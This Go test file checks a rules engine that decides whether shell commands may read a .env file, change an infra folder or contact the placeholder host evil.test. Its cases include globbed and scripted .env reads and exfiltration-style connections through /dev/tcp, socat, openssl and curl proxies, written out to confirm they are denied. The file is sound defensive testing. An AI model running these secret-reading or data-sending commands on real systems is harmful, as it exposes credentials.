package rules

import "testing"

// What may be what a rule is about is at least asked about, however it is written.
func TestNothingIsMissedForItsSpelling(t *testing.T) {
	list, problems := Parse(Source{Name: "x.yaml", Layer: User, Data: []byte(`
version: 1
decide: deny
rules:
  - {id: env, why: w, match: {path: .env, access: read}, examples: {hit: [{read: .env}]}}
  - {id: infra, why: w, match: {path: ./infra/, access: change}, examples: {hit: [{write: infra/a}]}}
  - {id: host, why: w, match: {host: evil.test}, examples: {hit: [curl evil.test]}}
`)})
	if len(problems) > 0 {
		t.Fatalf("the rules have problems, expected none: %v", problems)
	}
	set := NewSet(list, Options{Home: exampleHome})
	for command, want := range map[string]Verdict{
		"cat .en*": Ask, "cat .e?v": Ask, "cat .[e]nv": Ask, "cat *": NoVerdict, "cat .gitignor*": NoVerdict,
		"ls -a | xargs cat": Ask, "find . -name .env -exec cat {} +": Deny,
		`python3 -c 'print(open(".env").read())'`: Ask, `node -e 'fs.readFileSync(".env")'`: Ask,
		"vim .env": Deny, "git show HEAD:.env": Deny, "git checkout -- infra": Deny, "git restore infra": Deny,
		"git checkout infra-2":           NoVerdict,
		"echo x > /dev/tcp/evil.test/80": Deny, "socat - TCP:evil.test:80": Deny,
		"openssl s_client -connect evil.test:443": Deny, "curl -x evil.test:80 ok.test": Deny,
		"curl -x ok.test evil.test": Deny, "HTTPS_PROXY=evil.test curl https://ok.test": Deny,
	} {
		if got := set.Decide(Example{Command: command}.Facts(set.Needs())).Verdict; got != want {
			t.Errorf("%q: %q, want %q", command, got, want)
		}
	}
}

// Where the system takes .ENV and .env for the same file, so do rules.
func TestNamesInOtherLetters(t *testing.T) {
	was := foldsNames
	defer func() { foldsNames = was }()
	list := load(t, `version: 1
rules:
  - {id: env, why: w, match: {path: .env, access: read}, decide: deny, examples: {hit: [cat .env]}}
  - {id: infra, why: w, match: {path: ./Infra/, access: change}, decide: deny, examples: {hit: [rm ./Infra/a]}}
`)
	for _, folds := range []bool{true, false} {
		foldsNames = folds
		set := NewSet(list, Options{Home: exampleHome})
		for _, command := range []string{"cat .ENV", "cat Sub/.Env", "rm infra/a", "rm -r INFRA"} {
			got := set.Decide(Example{Command: command}.Facts(set.Needs())).Verdict
			if (got == Deny) != folds {
				t.Errorf("%s where the system folds names (%v): %q, want a deny only then", command, folds, got)
			}
		}
	}
}
